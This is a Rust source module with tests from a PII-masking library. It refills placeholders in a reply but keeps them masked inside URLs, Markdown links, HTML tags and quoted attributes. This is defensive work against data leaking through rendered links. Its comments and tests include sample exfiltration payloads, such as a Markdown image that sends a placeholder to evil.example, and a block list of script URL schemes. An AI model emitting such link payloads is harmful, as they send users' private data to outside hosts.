//! Filling numbered placeholders back in, without letting a reply carry the values off.
//!
//! A reply that puts a placeholder where a renderer would send it somewhere
//! (`![x](https://evil.example/?q=[EMAIL_1])`) would leak the original the moment it is shown.
//! So placeholders are filled only in plain text; those in a **link zone** stay masked and are
//! reported as [`Withheld`]. Link zones, found in one left-to-right pass:
//!
//! * a URL token (up to whitespace, `<`, `>`, a quote or a backtick) holding `scheme://`, or
//!   starting with `www.` or `//`, or holding `mailto:`, `tel:` and similar schemes, or with a
//!   dotted host name followed by `/`, `?` or `#` (`evil.example/?q=`); for `javascript:`,
//!   `vbscript:` and `data:` the rest of the line;
//! * a Markdown link or image target, from `](` to its matching `)`;
//! * an HTML tag or autolink, from `<` (not followed by a space) to `>`;
//! * a quoted value after `=` (`href="..."`, `src='...'`, any `="..."`).
//!
//! A zone that is never closed runs to the end of the text: withholding too much is safe.
//! Linear: every byte is looked at a bounded number of times (each zone is skipped once found,
//! each token is read once to classify it).

use zeroize::Zeroizing;

use super::boundary::at;
use super::{placeholder, Finding};
use crate::PiiCategory;

/// A reply with its placeholders filled in where that is safe.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Restored {
    /// The text, zeroized when dropped (it holds the originals). `Debug` does not show it.
    pub text: Zeroizing<String>,
    /// Placeholders left masked because they sit in a link zone, in order.
    pub withheld: Vec<Withheld>,
}

/// A placeholder [`Vault::restore`](super::Vault::restore) left masked in [`Restored::text`].
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct Withheld {
    /// Its category.
    pub category: PiiCategory,
    /// Byte offset of the placeholder's `[` in [`Restored::text`].
    pub start: usize,
    /// Byte offset one past its `]`.
    pub end: usize,
}

impl Restored {
    /// [`Restored::withheld`] as `(start, end)` in UTF-16 code units of the text, for JavaScript.
    pub fn withheld_utf16(&self) -> Vec<(usize, usize)> {
        let spans: Vec<Finding> =
            self.withheld.iter().map(|w| Finding { category: w.category, start: w.start, end: w.end }).collect();
        super::utf16_offsets(&self.text, &spans)
    }
}

/// Fills every `[TAG_n]` that `value` knows, outside link zones.
pub(super) fn restore<'v>(text: &str, value: impl Fn(PiiCategory, usize) -> Option<&'v str>) -> Restored {
    let b = text.as_bytes();
    let zones = link_zones(b);
    // First pass: what goes where, so that the output is allocated once (no stray copies).
    let mut fills = Vec::new();
    let mut zone = 0;
    let mut i = 0;
    while let Some(rel) = b.get(i..).and_then(|s| s.iter().position(|&c| c == b'[')) {
        let p = i + rel;
        i = p + 1;
        let Some((category, n, len)) = b.get(p..).and_then(placeholder::parse_numbered) else {
            continue;
        };
        let Some(v) = value(category, n) else {
            continue;
        };
        while zones.get(zone).is_some_and(|&(_, end)| end <= p) {
            zone += 1;
        }
        let linked = zones.get(zone).is_some_and(|&(start, _)| start <= p);
        fills.push((p, len, category, (!linked).then_some(v)));
        i = p + len;
    }
    let size = text.len() + fills.iter().filter_map(|f| f.3).map(str::len).sum::<usize>();
    let mut out = Zeroizing::new(String::with_capacity(size));
    let mut withheld = Vec::new();
    let mut last = 0;
    for (p, len, category, fill) in fills {
        out.push_str(text.get(last..p).unwrap_or_default());
        match fill {
            Some(v) => out.push_str(v),
            None => {
                withheld.push(Withheld { category, start: out.len(), end: out.len() + len });
                out.push_str(text.get(p..p + len).unwrap_or_default());
            }
        }
        last = p + len;
    }
    out.push_str(text.get(last..).unwrap_or_default());
    Restored { text: out, withheld }
}

/// Ends a URL token.
fn ends_token(c: u8) -> bool {
    c.is_ascii_whitespace() || matches!(c, b'<' | b'>' | b'"' | b'\'' | b'`')
}

/// The link zones of `b`, sorted and disjoint: `(start, end)` byte ranges.
fn link_zones(b: &[u8]) -> Vec<(usize, usize)> {
    let mut zones = Vec::new();
    let mut i = 0;
    let mut token_start = true;
    while i < b.len() {
        let c = at(b, i);
        let end = match c {
            b'<' if !at(b, i + 1).is_ascii_whitespace() && i + 1 < b.len() => Some(find_from(b, i + 1, b'>')),
            b']' if at(b, i + 1) == b'(' => Some(matching_paren(b, i + 1)),
            b'=' if matches!(at(b, i + 1), b'"' | b'\'') => Some(find_from(b, i + 2, at(b, i + 1))),
            _ if token_start && !ends_token(c) => {
                let mut e = i;
                while e < b.len() && !ends_token(at(b, e)) {
                    e += 1;
                }
                let token = b.get(i..e).unwrap_or_default();
                if SCRIPTS.iter().any(|s| contains_ignore_case(token, s)) {
                    // Script and data URLs hold quotes and spaces: the rest of the line.
                    Some(find_from(b, e, b'\n'))
                } else if link_like(token) {
                    Some(e)
                } else {
                    None
                }
            }
            _ => None,
        };
        if let Some(end) = end {
            zones.push((i, end));
            i = end.max(i + 1);
            // What follows a zone is read as a token of its own, even mid-word:
            // `](a)https://evil.example/?q=[EMAIL_1]` still ends in a URL a renderer may link.
            token_start = true;
            continue;
        }
        token_start = ends_token(c);
        i += 1;
    }
    zones
}

/// One past the first `want` at or after `from`, or the end of `b`.
fn find_from(b: &[u8], from: usize, want: u8) -> usize {
    b.get(from..).and_then(|s| s.iter().position(|&c| c == want)).map_or(b.len(), |k| from + k + 1)
}

/// One past the `)` matching the `(` at `open`, or the end of `b`.
fn matching_paren(b: &[u8], open: usize) -> usize {
    let mut depth = 0usize;
    for (k, &c) in b.iter().enumerate().skip(open) {
        match c {
            b'(' => depth += 1,
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return k + 1;
                }
            }
            _ => {}
        }
    }
    b.len()
}

/// Schemes that a renderer turns into a link or runs without `//`.
const SCHEMES: &[&[u8]] = &[b"mailto:", b"tel:", b"sms:", b"file:", b"blob:"];
/// Schemes whose URLs run code or carry a document: their zone is the rest of the line.
const SCRIPTS: &[&[u8]] = &[b"javascript:", b"vbscript:", b"data:"];

fn contains_ignore_case(token: &[u8], part: &[u8]) -> bool {
    token.windows(part.len()).any(|w| w.eq_ignore_ascii_case(part))
}

/// A token a renderer may turn into a link.
fn link_like(token: &[u8]) -> bool {
    let starts = |p: &[u8]| token.len() >= p.len() && token.get(..p.len()).is_some_and(|t| t.eq_ignore_ascii_case(p));
    let body = token.iter().position(|c| c.is_ascii_alphanumeric() || *c == b'/').unwrap_or(token.len());
    let rest = token.get(body..).unwrap_or_default();
    let rest_starts =
        |p: &[u8]| rest.len() >= p.len() && rest.get(..p.len()).is_some_and(|t| t.eq_ignore_ascii_case(p));
    token.windows(3).any(|w| w == b"://")
        || starts(b"www.")
        || rest_starts(b"www.")
        || rest.starts_with(b"//")
        || SCHEMES.iter().any(|s| contains_ignore_case(token, s))
        || host_then_path(rest)
}

/// `evil.example/...`, `evil.example?q=`: a dotted host with an alphabetic top label, then `/?#`.
fn host_then_path(s: &[u8]) -> bool {
    let host_len = s.iter().position(|&c| !(c.is_ascii_alphanumeric() || c == b'.' || c == b'-')).unwrap_or(s.len());
    let host = s.get(..host_len).unwrap_or_default();
    let top = host.rsplit(|&c| c == b'.').next().unwrap_or_default();
    matches!(at(s, host_len), b'/' | b'?' | b'#')
        && host.contains(&b'.')
        && top.len() >= 2
        && top.iter().all(u8::is_ascii_alphabetic)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn zones(text: &str) -> Vec<&str> {
        link_zones(text.as_bytes()).iter().map(|&(s, e)| &text[s..e]).collect()
    }

    #[test]
    fn zone_kinds() {
        assert_eq!(zones("see ![x](https://e.x/?q=[E]) ok"), vec!["![x](https://e.x/?q=[E])"]);
        assert_eq!(zones("a [b](c (d) e) f"), vec!["](c (d) e)"]);
        assert_eq!(zones("<a href=x>t</a>"), vec!["<a href=x>", "</a>"]);
        assert_eq!(zones("x = \"[E]\" y"), Vec::<&str>::new());
        assert_eq!(zones("x=\"[E]\" y"), vec!["=\"[E]\""]);
        assert_eq!(
            zones("go www.e.x/a or evil.example/?q=1 or mailto:[E] now"),
            vec!["www.e.x/a", "evil.example/?q=1", "mailto:[E]"]
        );
        assert_eq!(zones("a < b, c > d, e.g. f/g and 1.5/2"), Vec::<&str>::new());
        assert_eq!(zones("unclosed ](http"), vec!["](http"]);
        // Found with the pii_restore fuzz harness (fuzz/regressions/pii_restore): a URL glued to
        // the end of a zone.
        assert_eq!(
            zones("x ](b)https://e.x/?q=[E] and ](c)ev.example/[E] or [a\n](b)www.e.x/[E]"),
            vec!["](b)", "https://e.x/?q=[E]", "](c)", "ev.example/[E]", "](b)", "www.e.x/[E]"]
        );
        assert_eq!(zones("[a](b) c"), vec!["](b)"]);
    }
}
